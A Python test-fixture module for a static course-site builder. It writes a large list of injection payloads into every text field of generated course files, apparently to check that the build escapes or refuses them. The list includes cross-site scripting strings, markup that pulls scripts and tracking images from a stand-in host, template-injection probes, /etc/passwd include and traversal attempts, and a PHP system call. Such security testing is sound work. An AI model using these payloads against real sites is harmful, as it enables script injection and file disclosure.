"""What a stranger may try in a text, and a course that has each of it in every field that takes text."""

import types
import typing
from collections.abc import Iterator
from hashlib import sha256

import yaml

from build_scripts.read.course import (
    Answers,
    CourseFile,
    Gazetteer,
    Glossary,
    Lesson,
    PaperFile,
    Sources,
    Timeline,
)
from build_scripts.read.record import Source, Written, record_in
from build_scripts.shared.markdown import Markdown, read_prose
from build_scripts.shared.outside import is_outside
from build_scripts.start.schemas import MODELS

PAYLOADS = [
    # scripts and handlers
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//a.example/x.js></script>", "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
    "<a href='javascript:alert(1)'>x</a>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<button formaction=javascript:alert(1)>x</button>", "<isindex action=javascript:alert(1)>",
    "<div style='background:url(javascript:alert(1))'>x</div>", "<p style=position:fixed;inset:0>x</p>", "<style>*{display:none}</style>", "<style>@import '//a.example/x.css'</style>",
    "<link rel=stylesheet href=//a.example/x.css>", "<iframe src=//a.example/></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//a.example/x></object>", "<embed src=//a.example/x>", "<base href=//a.example/>", "<meta http-equiv=refresh content='0;url=//a.example/'>",
    "<template><script>alert(1)</script></template>", "<img src=//a.example/count.gif>", "<picture><source srcset=//a.example/x></picture>",
    # out of where the theme prints it
    "</title><script>alert(1)</script>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)",
    "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "</script><script>alert(1)</script>", "</style><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</article></main><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\<script>alert(1)</script>",
    "<!-- <script>alert(1)</script> -->", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script>alert(1)</script>",
    # parsers that disagree
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<a <b onclick=alert(1)>x", "<<script>alert(1)//<</script>", "<script/x>alert(1)</script>",
    "<p markdown=\"1\" onclick=alert(1)>x</p>", "<div markdown='block'><script>alert(1)</script></div>", "`</code><script>alert(1)</script>`", "```\n</code></pre><script>alert(1)</script>\n```",
    "~~~ {.x onclick=alert(1)}\nx\n~~~", "    <script>alert(1)</script>", "> <script>alert(1)</script>", "- <script>alert(1)</script>", "# <script>alert(1)</script>", "| <script>alert(1)</script> |\n|---|",
    # Markdown's own ways
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](&#106;avascript:alert(1))", "[x](java\tscript:alert(1))", "[x](vbscript:msgbox(1))", "[x](data:text/html,<script>alert(1)</script>)",
    "[x](//a.example/)", "[x](file:///etc/passwd)", "[x](../../../../etc/passwd)", "[x](blob:https://a.example/1)", "[x]: javascript:alert(1)\n\n[x]", "<javascript:alert(1)>", "![x](javascript:alert(1))", "![x](https://a.example/count.gif)",
    "[x](https://a.example){ onclick=alert(1) }", "[x](https://a.example/ \"t\\\" onclick=alert(1)\")", "[x](https://a.example/\"onclick=alert(1))", "x\n{: onclick=alert(1) }", "x { onclick=alert(1) }", "x{: #a onclick=alert(1) style=position:fixed }",
    "*[x]: <script>alert(1)</script>", "[^1]\n\n[^1]: <script>alert(1)</script>", "[TOC]", "$$<script>alert(1)</script>$$", "![[x]]", "!!! note \"<script>alert(1)</script>\"\n    x",
    # templates and includes
    "{{ 7*7 }}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{% include '/etc/passwd' %}", "{% raw %}<script>alert(1)</script>{% endraw %}", "{# x #}", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}",
    "--8<-- '/etc/passwd'", "--8<--\n/etc/passwd\n--8<--", "::: build_scripts.disk", "{! /etc/passwd !}", "[[/etc/passwd]]", "<?php system('id') ?>", "---\ntitle: x\n---\n<script>alert(1)</script>",
    # letters
    "\u202e<script>alert(1)</script>", "\u200b<script>alert(1)</script>", "\u2028<script>alert(1)</script>", "＜script＞alert(1)＜/script＞", "<scr\u0130pt>alert(1)</scr\u0130pt>", "+ADw-script+AD4-alert(1)", "%3Cscript%3Ealert(1)%3C/script%3E",
]  # fmt: skip

ROOTS = tuple(MODELS.values())
"""The record of each kind of file."""

NOT_SHOWN = {
    ("PaperFile", "furniture"): "lines that are left out",
    ("PaperFile", "headings"): "lines of the paper, which holds every payload",
    ("PaperFile", "not_citations"): "only compared",
    ("Note", "prefix"): "only compared",
    ("Note", "suffix"): "only compared",
    ("Question", "prefix"): "only compared",
    ("Question", "suffix"): "only compared",
    ("Lesson", "passages"): "names that exist, or a report",
    ("Note", "see"): "names that exist, or a report",
    ("Lesson", "key_terms"): "names that exist, or a report",
    ("Term", "related"): "names that exist, or a report",
    ("Event", "theme"): "names that exist, or a report",
    ("Event", "period"): "names that exist, or a report",
    ("Event", "lessons"): "names that exist, or a report",
    ("ReadingList", "lessons"): "names that exist, or a report",
    ("LessonDay", "lesson"): "names that exist, or a report",
    ("Guide", "question"): "names that exist, or a report",
    ("Event", "places_"): "names that exist, or a report",
    ("Term", "places_"): "names that exist, or a report",
    ("Locality", "lessons"): "names that exist, or a report",
    ("Locality", "paragraphs"): "names that exist, or a report",
    ("Event", "paragraphs"): "names that exist, or a report",
    ("Work", "type"): "a kind of work, of which only known ones are set",
}
"""Fields that take text and show none of it, each with why."""


def is_refused(payload: str) -> bool:
    """Whether it links somewhere that no course may link to: then a build says so and stops."""
    return any(not is_outside(target) for target in read_prose(payload).links)


def text_fields() -> set[tuple[str, str]]:
    """Every field of every record that takes text, as names of record and field."""
    found, waiting, seen = set(), list(ROOTS), set()
    while waiting:
        model = waiting.pop()
        if model in seen:
            continue
        seen.add(model)
        for name, field in model.model_fields.items():
            inside = record_in(field.annotation)
            if inside:
                waiting.append(inside)
            elif name != "places" and _kind(field) in ("text", "prose"):
                found.add((model.__name__, name))
    return found


def _kind(field) -> str:
    """`text`, `prose`, `id`, `date`, or the name of another type."""
    for annotation in _leaves(field.annotation):
        marks = [*getattr(annotation, "__metadata__", ()), *field.metadata]
        kept = (
            typing.get_args(annotation)[0]
            if typing.get_origin(annotation) is typing.Annotated
            else annotation
        )
        if isinstance(kept, type) and issubclass(kept, Markdown):
            return "prose"
        if kept is Source:
            return "text"
        if kept is str:
            if any(getattr(mark, "pattern", None) for mark in marks):
                return "id"
            return "text"
        if annotation is not type(None):
            return getattr(kept, "__name__", "")
    return ""


def _leaves(annotation) -> Iterator[object]:
    if typing.get_origin(annotation) in (tuple, typing.Union, types.UnionType):
        for part in typing.get_args(annotation):
            if part is not Ellipsis:
                yield from _leaves(part)
    else:
        yield annotation


def _seen(payload: str) -> str:
    """What of a payload can stand in an address: one with spaces, or with signs that are not seen, is refused."""
    return "".join(sign for sign in payload if sign.isprintable() and sign != " ")


class Filler:
    """Fills records: the payload in every field that takes text, and what must be true in the others."""

    def __init__(self) -> None:
        self.filled: set[tuple[str, str]] = set()

    def fill(
        self, model: type[Written], payload: str, given: dict[str, dict[str, object]]
    ) -> dict[str, object]:
        """Return the fields of a record; `given` has those that cannot take any text, by record."""
        fields: dict[str, object] = {}
        for name, field in model.model_fields.items():
            key, fixed = field.alias or name, given.get(model.__name__, {})
            if name == "places" or ((model.__name__, name) in NOT_SHOWN and name not in fixed):
                continue
            inside = record_in(field.annotation)
            many = typing.get_origin(field.annotation) is tuple
            if name in fixed:
                if fixed[name] is None:
                    continue
                value = fixed[name]
                if name in ("url", "editors", "epigraph", "synonyms") or _squeezed(payload) in str(value):
                    self.filled.add((model.__name__, name))
            elif inside:
                value = (
                    [self.fill(inside, payload, given)] * (2 if name == "options" else 1)
                    if many
                    else self.fill(inside, payload, given)
                )
            elif _kind(field) in ("text", "prose"):
                self.filled.add((model.__name__, name))
                # Of a payload that would be refused, prose has the letters as code.
                safe = _as_code(payload) if _kind(field) == "prose" and is_refused(payload) else payload
                value = [safe] if many else safe
            elif _kind(field) == "bool":
                value = name != "draft"  # no site shows one
            elif _kind(field) == "int":
                value = 5
            else:
                continue
            fields[key] = value
        return fields


class _Dumper(yaml.SafeDumper):
    """Writes out what comes twice, since no course may have aliases."""

    def ignore_aliases(self, data: object) -> bool:
        return True


def _as_code(text: str) -> str:
    return f"`` {' '.join(text.split())} ``"


def course() -> tuple[dict[str, str], set[tuple[str, str]]]:
    """Return the texts of the course by path, and the fields that hold payloads."""
    filler = Filler()
    paper = "\n\n".join(_paragraph(number, payload) for number, payload in enumerate(PAYLOADS))
    numbers = range(len(PAYLOADS))

    def given(number: int) -> dict[str, dict[str, object]]:
        quote = _squeezed(PAYLOADS[number])
        cited = f"work-{number}, {quote}"
        shared: dict[str, object] = {"sources": [cited], "basis": None}
        return {
            "Lesson": {"passages": [f"p{number + 1}"], "key_terms": [f"term-{number}"], **shared},
            "Note": {"id": f"note-{number}", "quote": quote, "kind": "slip", "see": ["p1"], **shared},
            "Question": {"id": f"question-{number}", "level": "analyse", "about": quote},
            "Check": {"id": f"check-{number}"},
            "Term": {"id": f"term-{number}", "aliases": [f"{quote} {number}"], "related": ["term-0"], "places_": ["place-0"], **shared},
            "Translation": {"language": "ur"},
            "Event": {"id": f"event-{number}", "date": "1850", "theme": "theme-0", "period": "period-0", "paragraphs": ["p1"], "lessons": ["lesson-0"], **shared},
            "Locality": {"id": f"place-{number}", "at": [number % 90, number], "kind": "port", "paragraphs": ["p1"], "lessons": ["lesson-0"], **shared},
            "Account": shared,
            "Theme": {"id": f"theme-{number}"},
            "Period": {"id": f"period-{number}", "date": "1800/1900"},
            "Work": {"id": f"work-{number}", "type": "book", "issued": "2001", "url": f"https://a.example/?q={_seen(quote)}"},
            "Licence": {"url": f"https://a.example/?q={_seen(quote)}"},
            "Schedule": {"begins": "2027-02-01", "weekdays": ["monday"], "holidays": ["2027-02-15"]},
            "ReadingList": {"id": "list-0", "lessons": ["lesson-0"]},
            "LessonDay": {"lesson": "lesson-0", "date": "2027-02-02"},
            "Guide": {"question": f"question-{number}", **shared},
            "CourseFile": {
                "epigraph": quote,
                "lessons": [f"lesson-{other}" for other in numbers],
                "editors": PAYLOADS,
                "synonyms": [PAYLOADS],
            },
            "PaperFile": {"sha256": sha256(paper.encode()).hexdigest(), "works": None},
        }  # fmt: skip

    def many(model: type[Written], field: str) -> list[object]:
        return [
            filler.fill(record_in(model.model_fields[field].annotation), PAYLOADS[number], given(number))
            for number in numbers
        ]

    everything = " ".join(payload for payload in PAYLOADS if not is_refused(payload))
    files: dict[str, object] = {
        "content/course.yml": filler.fill(CourseFile, everything, given(0)),
        "seeds/paper.yml": filler.fill(PaperFile, everything, given(0)),
        "content/glossary.yml": {"terms": many(Glossary, "terms")},
        "content/timeline.yml": {
            **filler.fill(Timeline, everything, given(0)),
            **{name: many(Timeline, name) for name in ("themes", "periods", "events")},
        },
        "content/places.yml": {
            **filler.fill(Gazetteer, everything, given(0)),
            "places": many(Gazetteer, "places_"),
        },
        "content/sources.yml": {"references": many(Sources, "references")},
    }
    for number in numbers:
        files[f"content/lessons/lesson-{number}.yml"] = filler.fill(Lesson, PAYLOADS[number], given(number))
        files[f"content/answers/lesson-{number}.yml"] = filler.fill(Answers, PAYLOADS[number], given(number))
    allowed = [payload for payload in PAYLOADS if not is_refused(payload)]
    pages = {
        "content/pages/all.md": f"# {' '.join(' '.join(allowed).split())}\n\n" + "\n\n## x\n\n".join(allowed),
        **{
            f"content/pages/page-{n}.md": f"# {payload}\n\n{payload}" for n, payload in enumerate(allowed[:8])
        },
    }
    written = {path: yaml.dump(value, Dumper=_Dumper, width=10**6) for path, value in files.items()}
    return {"seeds/paper.txt": paper, **pages, **written}, filler.filled


def _squeezed(payload: str) -> str:
    return " ".join(payload.split())


def _paragraph(number: int, payload: str) -> str:
    return f"This is paragraph {number} of the paper, and it says {_squeezed(payload)} in the midst of its words."
